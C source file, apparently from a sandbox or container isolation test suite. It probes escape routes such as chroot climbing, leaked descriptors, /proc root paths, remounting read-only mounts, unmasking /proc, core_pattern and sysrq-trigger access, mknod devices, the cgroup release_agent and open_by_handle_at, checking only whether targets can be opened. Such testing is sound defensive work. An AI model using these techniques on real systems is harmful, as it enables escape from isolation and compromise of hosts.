/*
 * Files, mounts, devices and control groups of the host. Nothing is written to what is found: to have it open for
 * writing is to have it.
 */
#include "attack.h"
#include <dirent.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>

static long can_open(const char *path, int flags) {
    int fd = open(path, flags | O_CLOEXEC);
    if (fd < 0)
        return -1;
    struct stat found;
    /* What is hidden is the null device in the place of a file. */
    int hidden = fstat(fd, &found) == 0 && S_ISCHR(found.st_mode) && found.st_rdev == makedev(1, 3);
    close(fd);
    errno = EACCES;
    return hidden ? -1 : 0;
}

/*
 * The paper's own: with a descriptor of a directory outside a new root one climbs to the real one. Is a file of the
 * host's there?
 */
static long climb(char **a) {
    char *marker = needed(a, 0);
    int root = open("/", O_RDONLY | O_DIRECTORY);
    mkdir("/tmp/pit", 0700);
    if (root < 0 || chroot("/tmp/pit") || fchdir(root))
        return -1;
    for (int i = 0; i < 256; i++)
        if (chdir(".."))
            return -1;
    return chroot(".") ? -1 : can_open(marker, O_RDONLY);
}

/* A descriptor that was left open leads to the host. */
static long descriptors(char **a) {
    char *marker = needed(a, 0);
    for (int fd = 0; fd < 64; fd++) {
        char path[512] = "";
        for (int up = 0; up < 32; up++)
            strcat(path, "../");
        strcat(path, marker + 1);
        int found = openat(fd, path, O_RDONLY);
        if (found >= 0)
            return found;
        found = openat(fd, marker + 1, O_RDONLY);
        if (found >= 0)
            return found;
    }
    errno = ENOENT;
    return -1;
}

/* Some process's root or working directory is the host's. */
static long roots_of_processes(char **a) {
    char *marker = needed(a, 0);
    DIR *proc = opendir("/proc");
    struct dirent *entry;
    while (proc && (entry = readdir(proc))) {
        char path[1024];
        if (entry->d_name[0] < '0' || entry->d_name[0] > '9')
            continue;
        snprintf(path, sizeof path, "/proc/%s/root%s", entry->d_name, marker);
        if (!can_open(path, O_RDONLY))
            return 0;
        snprintf(path, sizeof path, "/proc/%s/cwd/../../../../../../../../..%s", entry->d_name, marker);
        if (!can_open(path, O_RDONLY))
            return 0;
    }
    errno = ENOENT;
    return -1;
}

static long mounting(char **a) { (void)a; return mount("none", "/tmp", "tmpfs", 0, NULL); }

/* Makes what is mounted read-only writable again. */
static long remount(char **a) {
    char *path = needed(a, 0), file[512];
    mount(NULL, path, NULL, MS_REMOUNT | MS_BIND, NULL);
    snprintf(file, sizeof file, "%s/written", path);
    int fd = open(file, O_WRONLY | O_CREAT, 0600);
    if (fd < 0)
        return -1;
    unlink(file);
    return 0;
}

/* Takes away what hides a file of /proc. */
static long unmask(char **a) {
    char path[300];
    snprintf(path, sizeof path, "/proc/%s", needed(a, 0));
    umount2(path, MNT_DETACH);
    return can_open(path, O_RDONLY);
}

/* A new procfs has nothing hidden. */
static long new_proc(char **a) {
    char path[300];
    snprintf(path, sizeof path, "/tmp/%s", needed(a, 0));
    if (mount("proc", "/tmp", "proc", 0, NULL))
        return -1;
    return can_open(path, O_RDONLY);
}

static long settings(char **a) {
    (void)a;
    mount(NULL, "/proc/sys", NULL, MS_REMOUNT | MS_BIND, NULL);
    return can_open("/proc/sys/kernel/core_pattern", O_WRONLY);
}

static long system_requests(char **a) {
    (void)a;
    umount2("/proc/sysrq-trigger", MNT_DETACH);
    return can_open("/proc/sysrq-trigger", O_WRONLY);
}

static long kernel_objects(char **a) {
    const char *some[] = { "/sys/kernel/mm/ksm/run", "/sys/kernel/mm/transparent_hugepage/enabled", "/sys/power/state", "/sys/kernel/profiling",
                           "/sys/module/printk/parameters/time", "/sys/devices/system/cpu/cpu1/online", "/sys/kernel/uevent_helper" };
    (void)a;
    mount(NULL, "/sys", NULL, MS_REMOUNT | MS_BIND, NULL);
    for (unsigned i = 0; i < sizeof some / sizeof *some; i++)
        if (!can_open(some[i], O_WRONLY))
            return 0;
    errno = EACCES;
    return -1;
}

/*
 * A device by its number: c|b MAJOR MINOR. A node that is made, and one that came with the files, on a mount where
 * devices shall live again.
 */
static long device(char **a) {
    mode_t kind = *needed(a, 0) == 'b' ? S_IFBLK : S_IFCHR;
    dev_t number = makedev(atoi(needed(a, 1)), atoi(needed(a, 2)));
    unlink("node-of-attack");
    if (!mknod("node-of-attack", kind | 0666, number)) {
        long opened = can_open("node-of-attack", O_RDONLY);
        unlink("node-of-attack");
        if (!opened)
            return 0;
    }
    mount(NULL, "/", NULL, MS_REMOUNT | MS_BIND, NULL);
    return a[3] ? can_open(a[3], O_RDONLY) : -1;
}

/* A control group's file: what limits this guest. */
static long own_limits(char **a) {
    char path[1024];
    mount(NULL, "/sys/fs/cgroup", NULL, MS_REMOUNT | MS_BIND, NULL);
    snprintf(path, sizeof path, "%s/cgroup.max.descendants", needed(a, 0));
    return can_open(path, O_WRONLY);
}

/* The program that the host runs when a group of version 1 becomes empty. */
static long release_agent(char **a) {
    (void)a;
    mkdir("/tmp/groups", 0700);
    if (mount("none", "/tmp/groups", "cgroup", 0, "none,name=pando-attack"))
        return -1;
    long opened = can_open("/tmp/groups/release_agent", O_WRONLY);
    umount("/tmp/groups");
    return opened;
}

/* Opens a file by its number, past every directory. */
static long by_handle(char **a) {
    struct { struct file_handle handle; unsigned char room[128]; } found = { .handle.handle_bytes = 128 };
    int mount_id;
    (void)a;
    if (name_to_handle_at(AT_FDCWD, "/", &found.handle, &mount_id, 0))
        return -1;
    int root = open("/", O_RDONLY);
    return open_by_handle_at(root, &found.handle, O_RDONLY);
}

const struct attack files[] = {
    { "climb", climb, 1 },
    { "descriptors", descriptors, 1 },
    { "roots-of-processes", roots_of_processes, 1 },
    { "mount", mounting, 0 },
    { "remount", remount, 1 },
    { "unmask", unmask, 1 },
    { "new-proc", new_proc, 1 },
    { "settings", settings, 1 },
    { "system-requests", system_requests, 1 },
    { "kernel-objects", kernel_objects, 1 },
    { "device", device, 1 },
    { "own-limits", own_limits, 1 },
    { "release-agent", release_agent, 1 },
    { "by-handle", by_handle, 1 },
    { 0 },
};
